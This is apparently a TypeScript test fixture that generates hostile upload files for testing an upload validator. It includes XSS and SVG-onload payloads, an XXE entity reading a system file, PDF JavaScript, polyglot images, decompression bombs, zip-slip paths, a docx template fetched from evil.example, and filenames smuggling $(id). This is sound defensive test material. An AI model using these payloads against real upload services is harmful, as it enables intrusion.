import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { video } from './pictures'
import { zip } from './zip'

/** A hostile file. */
export interface Specimen {
  title: string
  /** As it stands in the form, whatever it holds. */
  fileName: string
  content: Buffer
  /** Where it is sent: a picture of the site, a video of the site, a scan of a passport, a paper. */
  to: 'picture' | 'media' | 'scan' | 'paper'
  /** The refusal, or that it was made harmless: what is served then holds no `marker` unless it is sandboxed. */
  fate: 400 | 413 | 415 | 'harmless'
}

/** Hidden in specimens that are accepted. */
export const marker = '<script>alert(1)</script>'

const html = Buffer.from(`<!doctype html><html><body>${marker}</body></html>`)
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${marker}</svg>`)
const xxe = Buffer.from(`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg>&x;</svg>`)
const pdf = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF',
)
const ftyp = (brand: string) => Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\x02\0isomiso2`, 'latin1')

const ebml = Buffer.from('\x1a\x45\xdf\xa3\x93\x42\x82\x84webm\x42\x87\x81\x04', 'latin1')

/** Every way of hiding something in a file that somebody has tried on others. */
export async function uploadCorpus(): Promise<Specimen[]> {
  const film = Buffer.from(await video().arrayBuffer())
  const canvas = { create: { width: 8, height: 6, channels: 3, background: '#1aa6b7' } } as const
  const jpg = await sharp(canvas).jpeg().toBuffer()
  const png = await sharp(canvas).png().toBuffer()
  const gif = await sharp(canvas).gif().toBuffer()
  const specimen = (
    title: string,
    fileName: string,
    content: Buffer,
    fate: Specimen['fate'],
    to: Specimen['to'] = 'picture',
  ) => ({
    title,
    fileName,
    content,
    fate,
    to,
  })
  const inEvery = (title: string, content: Buffer, names: readonly string[]) =>
    names.map((name) =>
      specimen(
        `${title} as ${name}`,
        name,
        content,
        415,
        name.endsWith('pdf') ? 'scan' : name.endsWith('x') ? 'paper' : 'picture',
      ),
    )

  return [
    ...inEvery('nothing', Buffer.alloc(0), ['a.jpg', 'a.png', 'a.webp', 'a.gif', 'a.pdf', 'a.docx']),
    ...inEvery('a page', html, ['a.jpg', 'a.png', 'a.html', 'a.pdf', 'a.docx', 'a']),
    ...inEvery('an SVG with a script', svg, ['a.svg', 'a.png', 'a.jpg', 'a.pdf']),
    ...inEvery('an SVG with an entity', xxe, ['a.svg', 'a.png']),
    ...inEvery('a program', Buffer.from('MZ\x90\0\x03\0\0\0\x04', 'latin1'), ['a.jpg', 'a.exe', 'a.pdf', 'a.docx']),
    ...inEvery('a script of the shell', Buffer.from('#!/bin/sh\nid\n'), ['a.jpg', 'a.sh', 'a.pdf']),
    specimen('a PNG as .jpg', 'a.jpg', png, 'harmless'),
    specimen('a JPEG as .png', 'a.png', jpg, 'harmless'),
    specimen('a JPEG as .html', 'a.html', jpg, 'harmless'),
    specimen('a JPEG as .svg', 'a.svg', jpg, 'harmless'),
    specimen('a JPEG as .jpg.html', 'a.jpg.html', jpg, 'harmless'),
    specimen('a JPEG as .php', 'a.jpg.php', jpg, 'harmless'),
    specimen('a JPEG as .pdf', 'a.pdf', jpg, 'harmless', 'scan'),
    specimen('a JPEG as .html, as a scan', 'a.html', jpg, 'harmless', 'scan'),
    specimen('a PDF as .jpg', 'a.jpg', pdf, 415, 'scan'),
    specimen('a PDF where a picture belongs', 'a.pdf', pdf, 415),
    specimen('a video where a picture belongs', 'a.mp4', ftyp('isom'), 415),

    specimen('a JPEG with a page behind it', 'a.jpg', Buffer.concat([jpg, html]), 'harmless'),
    specimen('a JPEG with a page in its comment', 'a.jpg', withComment(jpg, html), 'harmless'),
    specimen('a JPEG with a page in its comment, as a scan', 'a.jpg', withComment(jpg, html), 'harmless', 'scan'),
    specimen(
      'a PNG with a page in its text',
      'a.png',
      withChunk(png, 'tEXt', Buffer.concat([Buffer.from('Comment\0'), html])),
      'harmless',
    ),
    specimen('a PNG with a page behind it', 'a.png', Buffer.concat([png, html]), 'harmless'),
    specimen('a GIF with a page behind it', 'a.gif', Buffer.concat([gif, html]), 'harmless'),
    specimen('a GIF that is a script', 'a.gif', Buffer.from('GIF89a/*\0\0\0\0*/=1;alert(1)//;', 'latin1'), 415),
    specimen('a page with the mark of a GIF', 'a.gif', Buffer.concat([Buffer.from('GIF89a'), html]), 415),
    specimen(
      'a page with the mark of a JPEG',
      'a.jpg',
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html]),
      415,
    ),
    specimen('a page before a PDF', 'a.pdf', Buffer.concat([html, pdf]), 415, 'scan'),
    specimen('a PDF with a script and a page behind it', 'a.pdf', Buffer.concat([pdf, html]), 'harmless', 'scan'),
    specimen('a PDF that is a zip too', 'a.pdf', Buffer.concat([pdf, zip({ 'a.html': html })]), 'harmless', 'scan'),
    specimen('a video with a page behind it', 'a.mp4', Buffer.concat([film, html]), 'harmless', 'media'),
    specimen('a page that begins like a video', 'a.mp4', Buffer.concat([ftyp('isom'), html]), 415, 'media'),
    specimen('a page that begins like a WEBM', 'a.webm', Buffer.concat([ebml, html]), 415, 'media'),
    specimen('a video as .html', 'a.html', ftyp('isom'), 415, 'media'),
    specimen('a page where a video belongs', 'a.mp4', html, 415, 'media'),
    specimen('an SVG where a video belongs', 'a.svg', svg, 415, 'media'),

    specimen('20 000 × 20 000 pixels in 1 kB', 'a.png', pngOf(20_000, 20_000), 413),
    specimen('more pixels than there are', 'a.png', pngOf(0x7fffffff, 0x7fffffff), 415),
    specimen('65 500 × 65 500 pixels of a JPEG', 'a.jpg', jpegOf(jpg, 65_500), 413),
    specimen('a picture of no pixels', 'a.png', pngOf(0, 0), 415),
    specimen('a PNG that breaks off', 'a.png', png.subarray(0, png.length - 30), 415),
    specimen('a JPEG that breaks off', 'a.jpg', jpg.subarray(0, 200), 415),
    specimen(
      '100 MB of text in a chunk of a PNG',
      'a.png',
      withChunk(png, 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))])),
      'harmless',
    ),

    specimen('a docx', 'a.docx', docx(), 'harmless', 'paper'),
    specimen('a zip as .docx', 'a.docx', zip({ 'a.txt': Buffer.from('a') }), 415, 'paper'),
    specimen('a zip', 'a.zip', docx(), 415, 'paper'),
    specimen('a docx where a scan belongs', 'a.docx', docx(), 415, 'scan'),
    specimen(
      'a docx of a thousandfold',
      'a.docx',
      docx({ 'word/media/a.bin': Buffer.alloc(10) }, 4_000_000_000),
      415,
      'paper',
    ),
    specimen('a docx with 2 000 parts', 'a.docx', docx(manyParts(2000)), 415, 'paper'),
    specimen('a docx that climbs out', 'a.docx', docx({ '../../../../tmp/a': Buffer.from('a') }), 415, 'paper'),
    specimen('a docx from the root', 'a.docx', docx({ '/etc/cron.d/a': Buffer.from('a') }), 415, 'paper'),
    specimen('a docx with macros', 'a.docx', docx({ 'word/vbaProject.bin': Buffer.from('a') }), 415, 'paper'),
    specimen('a docx whose macros have another name', 'a.docx', docx(hiddenMacros), 415, 'paper'),
    specimen('a docx with a template of another server', 'a.docx', docx(foreignTemplate), 415, 'paper'),
    specimen(
      'a docx with a program in it',
      'a.docx',
      docx({ 'word/embeddings/a.bin': Buffer.from('MZ') }),
      415,
      'paper',
    ),
    specimen('a docx that breaks off', 'a.docx', docx().subarray(0, 60), 415, 'paper'),
    specimen('a docx with a page before it', 'a.docx', Buffer.concat([html, docx()]), 415, 'paper'),

    ...harmlessNames.map((name) => specimen(`the name ${JSON.stringify(name).slice(0, 60)}`, name, jpg, 'harmless')),
    ...harmlessNames.map((name) =>
      specimen(`the name ${JSON.stringify(name).slice(0, 60)} of a scan`, name, jpg, 'harmless', 'scan'),
    ),
    specimen('a NUL that hides the ending', 'a.html\0.jpg', jpg, 'harmless'),
    specimen('a NUL before another ending', 'a.jpg\0.html', jpg, 'harmless'),
  ]
}

const harmlessNames = [
  '../../../../etc/cron.d/a.jpg',
  '..\\..\\..\\windows\\a.jpg',
  '/etc/passwd.jpg',
  'C:\\a.jpg',
  'a.html.jpg',
  'a.php.jpg',
  '.htaccess.jpg',
  'CON.jpg',
  '\u202egpj.exe.jpg',
  'a;b=c.jpg',
  "a'b`c$(id).jpg",
  '%2e%2e%2fa.jpg',
  '=1+1.jpg',
  '👩‍👩‍👧.jpg',
  `${'я'.repeat(3000)}.jpg`,
  `${'a/'.repeat(500)}.jpg`,
]

function withComment(jpeg: Buffer, text: Buffer): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)])
}

/** A JPEG whose header tells of a wider and higher picture. */
function jpegOf(jpeg: Buffer, side: number): Buffer {
  const copy = Buffer.from(jpeg)
  const frame = copy.findIndex((byte, at) => byte === 0xff && [0xc0, 0xc2].includes(copy[at + 1] ?? 0))
  copy.writeUInt16BE(side, frame + 5)
  copy.writeUInt16BE(side, frame + 7)
  return copy
}

const pngMark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const data = deflateSync(Buffer.alloc(20_000))
  return Buffer.concat([pngMark, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

/** The PNG with one more chunk right after its header. */
function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk(type, data), png.subarray(33)])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const whole = Buffer.alloc(body.length + 8)
  whole.writeUInt32BE(data.length, 0)
  whole.set(body, 4)
  whole.writeUInt32BE(crc32(body), body.length + 4)
  return whole
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}

const manyParts = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`word/part${index}.xml`, Buffer.alloc(0)]))

const hiddenMacros = {
  'word/media/image1.dat': Buffer.from('a'),
  '[Content_Types].xml': Buffer.from(
    '<Types><Override PartName="/word/media/image1.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
  ),
}
const foreignTemplate = {
  'word/_rels/settings.xml.rels': Buffer.from(
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
  ),
}

const docx = (parts: Record<string, Buffer> = {}, unpacked?: number): Buffer =>
  zip(
    { '[Content_Types].xml': Buffer.from('<Types/>'), 'word/document.xml': Buffer.from('<w:document/>'), ...parts },
    unpacked,
  )
